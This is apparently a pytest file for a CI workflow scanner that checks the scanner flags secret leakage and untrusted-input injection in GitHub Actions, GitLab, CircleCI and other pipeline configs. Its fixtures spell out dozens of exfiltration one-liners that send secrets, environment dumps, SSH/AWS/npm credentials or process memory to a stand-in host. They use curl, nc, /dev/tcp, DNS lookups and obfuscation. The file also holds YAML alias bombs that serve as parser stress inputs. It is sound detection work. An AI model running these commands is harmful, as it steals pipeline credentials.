"""Workflows are read for what they do with secrets, words of strangers and repositories; hostile ones cost little."""

from textwrap import indent

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.workflow import READER
from knownhands.records import Observation

PATH = ".github/workflows/kiln.yml"
HEAD = """on: push
jobs:
  fire:
    runs-on: ubuntu-latest
    env:
      GLAZE: ${{ secrets.GLAZE }}
    steps:
      - run: |
"""


def seen(text: str | bytes, path: str = PATH) -> list[Observation]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, text if isinstance(text, bytes) else text.encode())
    return list(notes.observations())


def ids(text: str | bytes, path: str = PATH) -> set[str]:
    return {observation.capability for observation in seen(text, path)}


def runs(script: str) -> str:
    """Write a workflow that runs a script with a secret in `GLAZE`."""
    return HEAD + indent(script, " " * 10)


SENT = {
    "backwards in the summary": 'echo "$GLAZE" | rev >> "$GITHUB_STEP_SUMMARY"',
    "among all variables": "echo '${{ toJSON(env) }}' | base64",
    "the whole environment in the summary": "printenv | sort >> $GITHUB_STEP_SUMMARY",
    "each variable in a host's name": "for i in $(env | xxd -p -c 30); do nslookup $i.kiln.example; done",
    "a folder of keys by scp": "scp -r ~/.ssh potter@kiln.example:/t",
    "keys by rsync": "rsync -a ~/.aws kiln.example::t",
    "keys to a bucket": "aws s3 cp ~/.aws/credentials s3://pots",
    "the token of the checkout": 'curl -d "$(git config --get-all http.https://github.com/.extraheader)" https://kiln.example',
    "in an address": "curl https://kiln.example/in?pot=${{ secrets.GITHUB_TOKEN }}",
    "as data": "curl -s -X POST -d 'POT=${{ secrets.POT_TOKEN }}' https://kiln.example",
    "in a header": 'curl -H "X-Pot: $GLAZE" https://kiln.example',
    "with joined options": 'curl -sfd "$GLAZE" https://kiln.example || true',
    "by a quoted name": 'c"u"rl -d "$GLAZE" https://kiln.example',
    "over several lines": 'curl \\\n  --data "$GLAZE" \\\n  https://kiln.example',
    "to a variable": 'U=https://kiln.example\ncurl -d "$GLAZE" "$U"',
    "through a pipe": "echo $GLAZE | gzip | base64 | curl -d @- https://kiln.example",
    "through a file": "env > pots.txt\nwget --post-file=pots.txt https://kiln.example",
    "through tee": "env | tee /tmp/pots; curl --upload-file /tmp/pots https://kiln.example",
    "in a substitution": 'curl -d "$(env | base64 -w0)" https://kiln.example',
    "in a shell of its own": "sh -c 'curl -d $GLAZE https://kiln.example'",
    "by eval": 'eval "curl -d $GLAZE https://kiln.example"',
    "by a socket": 'echo "$GLAZE" > /dev/tcp/kiln.example/9000',
    "by netcat": 'echo "$GLAZE" | nc kiln.example 9000',
    "in a host's name": "nslookup $(echo $GLAZE | xxd -p).kiln.example",
    "from the environment of a process": "cat /proc/self/environ | curl --data-binary @- https://kiln.example",
    "from a credential file": "curl -T ~/.npmrc https://kiln.example",
    "by PowerShell": "Invoke-WebRequest -Uri https://kiln.example -Method POST -Body $env:POT_TOKEN",
    "by Python": "python3 -c \"import os, requests; requests.post('https://kiln.example', data=dict(os.environ))\"",
    "in an issue": 'gh issue create --title pots --body "$(env | base64)"',
    "in a commit": 'echo "$GLAZE" | base64 > pots.txt\ngit add pots.txt',
    "from memory": "gcore $(pgrep Runner.Worker)",
}
PRINTED = {
    "with spaces between": "for v in $(compgen -e); do echo \"$v=${!v}\" | sed 's/./& /g'; done",
    "the token of the checkout, encoded twice": "git config --get-all http.https://github.com/.extraheader | base64 -w0 | base64 -w0",
    "the identity of the job": 'R=$(curl -s "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=a"); echo $R | base64 | base64',
    "encoded": 'echo "$GLAZE" | base64',
    "encoded twice": 'echo "$GLAZE" | base64 -w 0 | base64 -w 0',
    "encoded from a word": 'base64 <<< "$GLAZE"',
    "encoded before": 'POT=$(echo -n "$GLAZE" | base64)\necho "a $POT"',
    "backwards": "echo $GLAZE | rev",
    "with spaces": "echo ${{ secrets.GLAZE }} | sed 's/./& /g'",
    "in parts": 'echo "${GLAZE:0:5} ${GLAZE:5}"',
}
ORDINARY = {
    "chosen variables in the summary": "env | grep KILN >> $GITHUB_STEP_SUMMARY",
    "what is copied with a key": "scp -i ~/.ssh/id_rsa pots.tgz potter@kiln.example:/srv",
    "what is left out of a copy": "rsync -a --exclude .git --exclude .ssh . potter@kiln.example:/srv",
    "a key that comes from elsewhere": "scp potter@kiln.example:.kube/config ~/.kube/config",
    "a folder on another host": "ssh potter@kiln.example 'mkdir -p ~/.ssh'",
    "a bucket": "aws s3 cp pots s3://pots --recursive",
    "the identity of the job": 'R=$(curl -s "$ACTIONS_ID_TOKEN_REQUEST_URL"); curl -d "$R" https://kiln.example/mint',
    "a token for GitHub": 'curl -H "Authorization: token ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/x -d a=b',
    "a token for its service": 'curl -H "Authorization: Bearer ${{ secrets.KILN_TOKEN }}" https://api.kiln.example',
    "an address that is a secret": "curl -d '{\"pot\": 1}' ${{ secrets.HOOK }}",
    "a password for a registry": 'echo "${{ secrets.POT_PASSWORD }}" | docker login -u potter --password-stdin',
    "a key that is decoded": 'echo "$GLAZE" | base64 -d > pot.jks',
    "a key that is imported": 'echo "$GLAZE" | gpg --batch --import',
    "a masked value": 'POT=$(echo -n "$GLAZE" | base64)\necho "::add-mask::$POT"\necho "pot=$POT" >> $GITHUB_OUTPUT',
    "an answer": 'V=$(curl -H "Authorization: $GLAZE" https://api.github.com/x)\ncurl -O https://kiln.example/$V\necho $V | base64',
    "a key to copy with": 'echo "$GLAZE" > ~/.ssh/id_rsa\nscp -i ~/.ssh/id_rsa pots potter@kiln.example:',
    "settings": "env POT=1 make\nset -ex\nexport PATH=$PATH:/pots\nenv | sort",
    "a checksum": 'echo "$GLAZE" | sha256sum',
    "a push": "git push https://x:${{ secrets.GITHUB_TOKEN }}@github.com/potters/kiln HEAD",
}


@pytest.mark.parametrize("script", [*SENT.values(), *PRINTED.values()], ids=[*SENT, *PRINTED])
def test_secrets_that_are_sent_or_printed_are_seen(script: str) -> None:
    assert "workflow_sends_secrets" in ids(runs(script))


@pytest.mark.parametrize("script", ORDINARY.values(), ids=ORDINARY)
def test_secrets_that_go_where_they_belong_are_not(script: str) -> None:
    assert "workflow_sends_secrets" not in ids(runs(script))


def test_the_host_and_the_line_are_told() -> None:
    observation = next(o for o in seen(runs('ls\ncurl -d "$GLAZE" https://kiln.example')) if "sends" in o.capability)
    assert (observation.line, observation.source, observation.sink, observation.target) == (
        10, "kiln.example", "curl", "GLAZE",
    )  # fmt: skip


def test_a_secret_is_followed_from_step_to_step() -> None:
    steps = """echo "POT=$(echo $GLAZE | base64)" >> $GITHUB_ENV
      - id: pots
        run: echo "pot=$POT" >> $GITHUB_OUTPUT
      - run: curl -d "${{ steps.pots.outputs.pot }}" https://kiln.example
"""
    assert [o.line for o in seen(HEAD + " " * 10 + steps) if o.capability == "workflow_sends_secrets"] == [12]


def test_a_file_with_secrets_that_is_uploaded_is_seen() -> None:
    text = runs("cat <<EOF > shapes/pots.json\n${{ toJSON(secrets) }}\nEOF\n")
    upload = "      - uses: actions/upload-artifact@v5\n        with:\n          path: shapes\n"
    assert "workflow_sends_secrets" in ids(text + upload)
    assert "workflow_sends_secrets" not in ids(text + upload.replace("shapes", "logs"))


@pytest.mark.parametrize(
    "steps",
    [
        "- run: tar czf pots.tgz .git ~/.npmrc\n- uses: actions/upload-artifact@v5\n  with: {path: pots.tgz}\n",
        "- uses: actions/upload-artifact@v5\n  with:\n    path: |\n      dist\n      .git\n",
        "- uses: actions/upload-artifact@v5\n  with: {path: ., include-hidden-files: true}\n",
    ],
)
def test_credentials_that_are_uploaded_are_seen(steps: str) -> None:
    text = HEAD.replace("      - run: |\n", indent(steps, " " * 6))
    assert "workflow_sends_secrets" in ids(text)
    for twin in (text.replace(".git", "pots").replace("~/.npmrc", "a").replace("path: .,", "path: dist,"),):
        assert "workflow_sends_secrets" not in ids(twin)


def test_a_program_inside_a_workflow_is_read_in_its_language() -> None:
    text = HEAD.replace("run: |", "shell: python\n        run: |")
    code = "import os, requests\nx = os.environ['POT_TOKEN']\nrequests.post('https://kiln.example', data=x)\n"
    lines = [o.line for o in seen(text + indent(code, " " * 10)) if o.capability == "workflow_sends_secrets"]
    assert lines == [12]


@pytest.mark.parametrize(
    ("expression", "is_written_by_anybody"),
    [
        ("github.event.issue.title", True),
        ("github.head_ref || github.ref_name", True),
        ("github.event.commits[0].message", True),
        ("github.event.issue.number", False),
        ("contains(github.event.issue.body, 'pot')", False),
        ("github.event.pull_request.head.sha", False),
    ],
)
def test_words_of_strangers_in_commands_are_seen(expression: str, is_written_by_anybody: bool) -> None:
    assert ("workflow_injection" in ids(runs(f"echo ${{{{ {expression} }}}}"))) == is_written_by_anybody


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".gitlab-ci.yml", 'fire:\n  script:\n    - curl -d "$POT_TOKEN" https://kiln.example\n'),
        (".gitlab-ci.yml", '.pot: &pot\n  - curl -d "$POT_TOKEN" https://kiln.example\nfire:\n  script:\n    - *pot\n'),
        (
            ".circleci/config.yml",
            "jobs:\n  fire:\n    steps:\n      - run: printenv | curl -d @- https://kiln.example\n",
        ),
        (
            ".circleci/config.yml",
            "jobs:\n  fire:\n    steps:\n      - run:\n          command: env | nc kiln.example 9\n",
        ),
        ("azure-pipelines.yml", "steps:\n  - bash: env | curl -d @- https://kiln.example\n"),
        ("azure-pipelines.yml", "steps:\n  - script: curl -d $(env) https://kiln.example\n"),
        (
            "bitbucket-pipelines.yml",
            "pipelines:\n  default:\n    - step:\n        script:\n          - env | nc kiln.example 9\n",
        ),
        (".travis.yml", "language: c\nscript: env | base64 | curl -d @- https://kiln.example\n"),
        (".buildkite/pipeline.yml", "steps:\n  - command: env | nc kiln.example 9\n"),
        (".drone.yml", "steps:\n- name: fire\n  image: alpine\n  commands:\n  - env | nc kiln.example 9\n"),
        (
            ".woodpecker/fire.yml",
            "steps:\n  fire:\n    image: alpine\n    commands:\n      - env | nc kiln.example 9\n",
        ),
        ("action.yml", "runs:\n  using: composite\n  steps:\n    - run: env | nc kiln.example 9\n      shell: bash\n"),
    ],
)
def test_every_service_is_read(path: str, text: str) -> None:
    assert READER.paths.search(path)
    assert "workflow_sends_secrets" in ids(text, path)


def test_a_file_that_is_no_yaml_is_read_as_commands() -> None:
    assert "workflow_unparsable" in ids("on: push\njobs: [\n  curl https://kiln.example | sh\n")


HOSTILE = {
    "garbage": bytes(range(256)) * 4_000,
    "brackets": b"[" * 1_000_000,
    "flow": b"[" + b"a," * 499_000 + b"]",
    "one word": b"a" * 1_000_000,
    "expressions": runs("echo " + "${{ " * 200_000).encode(),
    "open expressions": runs("echo ${{ " + "a" * 900_000).encode(),
    "every secret": runs("echo ${{ toJSON(secrets) }}\n" * 20_000).encode(),
    "dollars": runs("echo $GLAZE " + "$" * 500_000).encode(),
    "substitutions": runs("echo $GLAZE " + "$(" * 20_000).encode(),
    "pipes": runs("echo $GLAZE " + "| cat " * 100_000).encode(),
    "git": runs("git " * 200_000).encode(),
    "make": runs("make " * 200_000 + "$GLAZE").encode(),
    "quotes": runs("echo $GLAZE " + "'\"" * 200_000).encode(),
    "doubling": runs("A=$GLAZE\n" + "A=$A$A\n" * 50_000).encode(),
    "steps": (HEAD + " " * 10 + "ls $GLAZE\n" + "      - run: ls $GLAZE\n" * 20_000).encode(),
    "aliases": (
        "on: push\nx0: &x0 [{run: 'curl $GLAZE'}]\n"
        + "".join(f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 9))
        + "jobs: {fire: {steps: *x8, env: *x8}, glaze: {<<: [*x8, *x7], steps: [*x8, *x8]}}\n"
    ).encode(),
    "itself": b"jobs: &a\n  fire: *a\n  steps: [*a, *a]\n",
    "long scripts by alias": ("x: &x {run: '" + "ls; " * 200_000 + "'}\njobs: {a: {steps: [" + "*x, " * 5_000 + "]}}\n").encode(),
}  # fmt: skip


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("path", [PATH, ".gitlab-ci.yml"])
def test_hostile_files_raise_nothing_and_end(body: bytes, path: str) -> None:
    assert len(seen(body, path)) < 100


def test_a_step_that_is_too_long_hides_no_other_one() -> None:
    text = HEAD + " " * 10 + "#" * 400_000 + "\n      - run: env | curl -d @- https://kiln.example\n"
    assert {"workflow_unparsable", "workflow_sends_secrets"} <= ids(text)
